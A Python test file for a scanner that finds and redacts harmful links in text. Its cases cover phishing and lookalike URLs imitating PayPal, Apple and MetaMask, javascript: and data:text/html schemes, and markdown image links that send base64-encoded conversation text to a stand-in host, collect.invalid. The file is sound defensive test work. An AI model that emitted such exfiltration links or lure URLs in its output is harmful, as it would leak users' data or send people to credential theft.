"""Harmful links: which are found and where, which are not, and what the options change."""

from __future__ import annotations

import base64
import hashlib
import json
import random
from importlib.resources import files
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from promptrails_engine.errors import ConfigurationError
from promptrails_scanners import malicious_urls
from tests.scanners.data import shared_rows
from tests.scanners.streams import apart, released, whole
from tests.scanners.work import calls

BAD = "http://paypal-login-verify.kz83-account.top/webscr/login.php"
RULES = {"use_model": False}
LOAD = base64.b64encode(b"the customer said that her name is Karlotta").decode()


def types(text: str, **options: Any) -> list[str]:
    return [one.type for one in malicious_urls.scan(text, **options).findings]


def found(text: str, **options: Any) -> list[str]:
    return [text[one.start : one.end] for one in malicious_urls.scan(text, **options).findings]


@pytest.mark.parametrize(
    "url",
    [
        BAD,
        "https://secure-appleid-support.verify-icloud.xyz/signin",
        "http://185.234.72.19/bank/login/index.php",
        "https://metamask-wallet-connect.pages.dev/",
        "https://netflix.account-update-billing.info/login.php?id=8837",
    ],
)
def test_the_model_knows_what_phishing_looks_like(url: str) -> None:
    assert found(f"please go to {url}, now") == [url]


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.python.org/3/library/urllib.parse.html",
        "https://github.com/python/cpython/blob/main/README.rst",
        "https://en.wikipedia.org/wiki/Phishing",
        "https://developer.mozilla.org/en-US/docs/Web/HTTP",
        "https://fastapi.tiangolo.com/tutorial/first-steps/",
        "https://www.paypal.com/signin",
        "https://login.microsoftonline.com/common/oauth2/authorize",
        "https://img.shields.io/pypi/v/requests.svg?style=flat-square&label=version",
        "http://localhost:8000/docs",
    ],
)
def test_honest_links_are_left_alone(url: str) -> None:
    text = f"See [{url}]({url}) and ![{url}]({url}) or {url}."
    verdict = malicious_urls.scan(text)
    assert verdict.findings == ()
    assert verdict.redacted == text


@pytest.mark.parametrize(
    "url",
    [
        "https://a-tool.readthedocs.io/en/latest/usage.html",
        "https://someone.github.io/a-tool/docs/install/#from-source",
        "https://img.shields.io/badge/build-passing-green.svg",
        "https://docs.some-framework.dev/guides/getting-started",
        "https://www.somecity.gov.uk/libraries/opening-hours",
        "https://blog.somebody.org/2019/05/how-we-test/",
        "https://www.example-museum.nl/en/collection",
    ],
)
def test_links_of_projects_and_people_are_left_alone(url: str) -> None:
    assert types(url) == []


def test_pages_of_others_on_a_host_of_good_name_are_judged() -> None:
    lure = "signin/account-verify/login.php?session=81f1a9c2d43b7e60"
    assert types(f"https://paypal-billing-update.s3.us-east-2.amazonaws.com/{lure}") == ["MALICIOUS_URL"]
    assert types(f"https://docs.aws.amazon.com/{lure}") == []


def test_the_weights_are_those_that_the_manifest_names() -> None:
    folder = files("promptrails_scanners") / "weights"
    told = json.loads((folder / "malicious_urls.json").read_text(encoding="utf-8"))
    assert set(told["files"]) == {"malicious_urls.bin"}
    assert (
        hashlib.sha256((folder / "malicious_urls.bin").read_bytes()).hexdigest()
        == (told["files"]["malicious_urls.bin"]["sha256"])
    )
    assert all(one["rows"] > 0 and one["licence"] and len(one["sha256"]) == 64 for one in told["sources"])


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("go to {}.", "http://bad.host.invalid/x"),
        ("(see {})", "http://bad.host.invalid/x_(y)"),
        ("[here]({})", "http://bad.host.invalid/x"),
        ('<a href="{}">x</a>', "http://bad.host.invalid/x?a=1&amp;b=2"),
        ("<{}>", "https://bad.host.invalid"),
        ("{}", "hxxps://bad[.]host[.]invalid/x"),
        ("{}", "hxxp[:]//bad.host.invalid/x"),
        ("{}", "http://bad.host.invalid:8080/"),
        ("\U0001f468\u200d\U0001f469 e\u0301 {}", "http://bad.host.invalid/\u00e4"),
    ],
)
def test_links_are_found_however_they_are_written(text: str, url: str) -> None:
    whole_text = text.format(url)
    assert found(whole_text, block_domains=["host.invalid"]) == [url]
    redacted = malicious_urls.scan(whole_text, block_domains=["host.invalid"]).redacted
    assert redacted == text.format("[URL removed]")


@pytest.mark.parametrize(
    "url",
    [
        "http://b%61d.host.invalid/x",
        "http://bad\u3002host\uff0einvalid/x",
        "http://BAD.Host.Invalid./x",
        "http://someone@bad.host.invalid:8080?x",
        "http://bad.host.invalid#x",
        "http://a[b@bad.host.invalid/",
        "//bad.host.invalid/x".replace("//", "hxxps[:]//"),
    ],
)
def test_a_host_is_read_as_browsers_read_it(url: str) -> None:
    assert types(url, block_domains=["host.invalid"], **RULES) == ["BLOCKED_URL"]


@pytest.mark.parametrize(
    "url", ["http://[::ffff:7f00:1]/", "http://[1::2]:80/x", "http://2130706433/", "http://0x7f000001/"]
)
def test_hosts_in_numbers_are_read(url: str) -> None:
    expected = ["BLOCKED_URL"]
    assert types(url, block_domains=["127.0.0.1", "1::2", "::ffff:127.0.0.1", "::ffff:7f00:1"], **RULES) == expected


def test_what_leads_nowhere_is_left_alone() -> None:
    for url in ("http://a.invalid:99999/", "http://[::1/", "http://[x]/", "http://a b/", "http://-/", "http://a:b@/"):
        assert types(url, block_domains=["a.invalid"], check_credentials=False, **RULES) == []


def test_hosts_without_a_scheme() -> None:
    options = {"block_domains": ["bad-host.xyz"]}
    assert found("try www.bad-host.xyz today", **options) == ["www.bad-host.xyz"]
    assert found("try bad-host.xyz/login today", **options) == ["bad-host.xyz/login"]
    assert found("try bad-host[.]xyz today", **options) == ["bad-host[.]xyz"]
    assert found("mail me@bad-host.xyz today", **options) == []


def test_lists_decide_before_all_else() -> None:
    assert types("https://a.b.shop.invalid/", block_domains=["shop.invalid"]) == ["BLOCKED_URL"]
    assert types("https://notshop.invalid/", block_domains=["shop.invalid"], **RULES) == []
    assert types(BAD, allow_domains=["kz83-account.top"]) == []
    assert types("https://x.zip/", block_tlds=[".zip"]) == ["BLOCKED_URL"]
    both = {"allow_domains": ["shop.invalid"], "block_domains": ["bad.shop.invalid"]}
    assert types("https://bad.shop.invalid/ https://good.shop.invalid/", **both) == ["BLOCKED_URL"]


@pytest.mark.parametrize(
    "host",
    [
        "www.p\u0430ypal.com",
        "xn--pypal-4ve.com",
        "paypa1.com",
        "micros0ft-support.com",
        "arnazon.com",
        "gooogle.com",
        "faecbook.com",
    ],
)
def test_lookalike_hosts(host: str) -> None:
    assert types(f"https://{host}/", **RULES) == ["LOOKALIKE_URL"]
    assert types(f"https://{host}/", check_punycode=False, **RULES) == []


@pytest.mark.parametrize(
    "host",
    [
        "m\u00fcnchen.de",
        "xn--mnchen-3ya.de",
        "apples.com",
        "paypal.com",
        "\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444",
    ],
)
def test_hosts_of_other_languages_and_names_are_no_lookalikes(host: str) -> None:
    assert types(f"https://{host}/", **RULES) == []


def test_credentials_in_a_link() -> None:
    assert types("https://www.google.com@bad.invalid/", **RULES) == ["CREDENTIALS_URL"]
    assert malicious_urls.scan("https://www.google.com@bad.invalid/", **RULES).score == 0.9
    assert types("https://user:pass@host.invalid/", **RULES) == ["CREDENTIALS_URL"]
    assert types("https://user:pass@host.invalid/", check_credentials=False, **RULES) == []


@pytest.mark.parametrize(
    ("text", "type_"),
    [
        ("[click](javascript:alert(1))", "DANGEROUS_SCHEME"),
        ("<a href='vbscript:x'>", "DANGEROUS_SCHEME"),
        ("![x](data:text/html;base64,PHNjcmlwdD4=)", "DANGEROUS_SCHEME"),
        ("open data:text/html,<script>", "DANGEROUS_SCHEME"),
    ],
)
def test_dangerous_schemes(text: str, type_: str) -> None:
    assert types(text) == [type_]


@pytest.mark.parametrize(
    "text", ["javascript: the good parts", "![dot](data:image/png;base64,iVBORw0KGgo=)", "data: see below", "file://"]
)
def test_harmless_schemes(text: str) -> None:
    assert types(text) == []


def test_links_that_carry_something_away() -> None:
    image = f"![ ](https://collect.invalid/p?d={LOAD})"
    assert types(image, **RULES) == ["EXFILTRATION_URL"]
    assert types(f'<img src="https://collect.invalid/p?d={LOAD}">', **RULES) == ["EXFILTRATION_URL"]
    assert types(f"[more](https://collect.invalid/p?d={LOAD})", **RULES) == ["EXFILTRATION_URL"]
    assert types("![x](https://collect.invalid/{{conversation}})", **RULES) == []
    assert types("![x](https://collect.invalid/?q=[DATA])", **RULES) == ["EXFILTRATION_URL"]
    assert types(image, check_exfiltration=False, **RULES) == []
    assert types(image, allow_domains=["collect.invalid"], **RULES) == []
    assert types(f"https://collect.invalid/p?d={LOAD}", **RULES) == []
    assert types("![x](https://collect.invalid/logo.png?v=2&size=large)", **RULES) == []


def test_what_is_taken_out_goes_wherever_it_stands() -> None:
    url = f"https://collect.invalid/p?d={LOAD}"
    redacted = malicious_urls.scan(f"{url} and ![ ]({url}) and {url}", **RULES).redacted
    assert redacted == "[URL removed] and ![ ]([URL removed]) and [URL removed]"


def test_defanged_links_can_be_read_and_not_followed() -> None:
    options = {"block_domains": ["host.invalid"], "redact_mode": "defang"}
    assert (
        malicious_urls.scan("x https://bad.host.invalid/a.b y", **options).redacted
        == "x hxxps://bad[.]host[.]invalid/a.b y"
    )
    assert malicious_urls.scan("[x](javascript:go())").redacted == "[x]([URL removed])"
    assert malicious_urls.scan("[x](javascript:go())", redact_mode="defang").redacted == "[x](javascript[:]go())"
    assert malicious_urls.scan(BAD, replacement="\u2026").redacted == "\u2026"


def test_only_so_many_links_are_judged() -> None:
    verdict = malicious_urls.scan(f"https://github.com/a https://github.com/b {BAD}", max_urls=2)
    assert not verdict.triggered
    assert verdict.truncated


def test_the_threshold_is_held_against_the_score() -> None:
    text = "https://user:pass@host.invalid/"
    assert types(text, threshold=0.5, **RULES) == ["CREDENTIALS_URL"]
    assert types(text, threshold=0.8, **RULES) == []


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"blocked": ["x.com"]}, "block"),
        ({"block_domains": ["not a host"]}, "block_domains"),
        ({"allow_domains": [""]}, "allow_domains"),
        ({"max_urls": 0}, "max_urls"),
        ({"redact_mode": "blur"}, "redact_mode"),
        ({"threshold": -1}, "threshold"),
    ],
)
def test_options_that_cannot_be_used_are_refused(options: dict[str, Any], said: str) -> None:
    with pytest.raises(ConfigurationError, match=said):
        malicious_urls.build(options)


def test_reasons_hold_nothing_of_the_text() -> None:
    verdict = malicious_urls.scan(f"go to {BAD}")
    assert "paypal" not in verdict.reason
    assert "1" in verdict.reason


@pytest.mark.parametrize(
    "text", ["", "http://", "https://[::1", "http://%zz/", "http://.../", "https://a:b:c/", "hxxp://", "www."]
)
def test_what_is_hardly_a_link(text: str) -> None:
    assert malicious_urls.scan(text).redacted == text


# ------------------------------------------------------------------ any text

_PIECES = [
    "see ", BAD, "https://github.com/a", ".", ")", "](", "![x](", " ", "\r\n", "www.bad.xyz", "hxxp://a[.]b",
    "javascript:x",
    f"https://collect.invalid/p?d={LOAD}", "<img src='", "'", "\U0001f468\u200d\U0001f469", "user:pass@", "https://",
    "paypa1.com/", "![a few ", "words](", "<img alt='a b' ", "src= ", "\ud83d", "[URL removed]",
]  # fmt: skip
texts = st.lists(st.sampled_from(_PIECES) | st.text(max_size=8), max_size=14).map("".join)
scanner = malicious_urls.build({})


@given(texts)
def test_outside_the_places_the_text_stays(text: str) -> None:
    verdict = scanner.scan(text)
    at, out = 0, []
    for one in verdict.findings:
        assert at <= one.start < one.end <= len(text)
        out += text[at : one.start], "[URL removed]"
        at = one.end
    assert verdict.redacted == "".join([*out, text[at:]])


@settings(max_examples=200)
@given(texts, st.lists(st.integers(0, 300), max_size=10))
def test_a_text_let_out_piece_by_piece_is_the_same(text: str, cuts: list[int]) -> None:
    assert released(scanner, text, cuts) == whole(scanner, text)


@pytest.mark.parametrize("threshold", [0.5, 0.8])
@pytest.mark.parametrize(
    "text",
    [
        f"so ![a few words](https://collect.invalid/p?d={LOAD}) it is",
        f"so <img alt='a few words' width=1 src= 'https://collect.invalid/p?d={LOAD}'> it is",
        f"![x](https://collect.invalid/p?d={LOAD}) and again https://collect.invalid/p?d={LOAD} there",
        f"https://collect.invalid/p?d={LOAD} and again ![x]( https://collect.invalid/p?d={LOAD}) there",
        f'[a b]\n[1]: <https://collect.invalid/p?d={LOAD}> and <a href = "https://collect.invalid/q?d={LOAD}">',
        "<a class='b c' href = javascript:alert(1)> and [x](  javascript:alert(2)) or\r\n" + BAD + "\r\nend",
    ],
)
def test_a_link_is_judged_with_what_stands_before_it_however_it_comes(text: str, threshold: float) -> None:
    one = malicious_urls.build({"use_model": False, "threshold": threshold})
    expected = one.scan(text).redacted
    for size in (1, 2, 3, 7, 20):
        assert apart(one, [text[at : at + size] for at in range(0, len(text), size)]) == expected


def test_a_thousand_cuts_come_to_the_same() -> None:
    dice = random.Random(5)
    for _ in range(100):
        text = "".join(dice.choice(_PIECES) for _ in range(dice.randrange(2, 30)))
        expected = scanner.scan(text).redacted
        for _ in range(10):
            cuts = sorted(dice.randrange(len(text) + 1) for _ in range(dice.choice((1, 2, 5, 20))))
            parts = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
            assert apart(scanner, parts) == expected, parts


# ------------------------------------------------------------------ long texts


@pytest.mark.parametrize(
    "unit",
    ["a", "a.", "http://", "www.", "![", "<img ", "](", "[.]", "hxxp://", "data:", "javascript:", "@", "/", "a-", "(",
     ")", "http://a.b/)", "xn--", "href=", "a.com/", "https://x.invalid/?d=A1b2 ", "![x](https://x.invalid/?d={y}) "],
)  # fmt: skip
def test_work_grows_with_the_text_alone(unit: str) -> None:
    """Counts the calls that are made, not seconds."""
    short, long = unit * (6000 // len(unit)), unit * (6000 // len(unit)) * 2
    assert seen(long) <= 2.3 * seen(short) + 200


def seen(text: str) -> int:
    """The calls for a text that has been seen before."""
    one = malicious_urls.build({"max_urls": 100_000})
    for look in (one.scan, one.settled):  # the first look prepares the patterns that it needs
        look(text)
    return calls(text, one.scan, one.settled)


# ------------------------------------------------------------------ floors


def test_floors_on_labelled_links() -> None:
    rows = [
        (malicious_urls.scan(row["text"]).triggered, row["label"], row["slice"])
        for row in shared_rows("malicious_urls")
    ]
    true = sum(hit and label for hit, label, _ in rows)
    false = sum(hit and not label for hit, label, _ in rows)
    missed = sum(not hit and label for hit, label, _ in rows)
    assert 2 * true / (2 * true + false + missed) >= 0.95
    for part, most in (("readme-links", 0.02), ("doc-links", 0.05)):
        hits = [hit for hit, _, slice_ in rows if slice_ == part]
        assert sum(hits) / len(hits) <= most
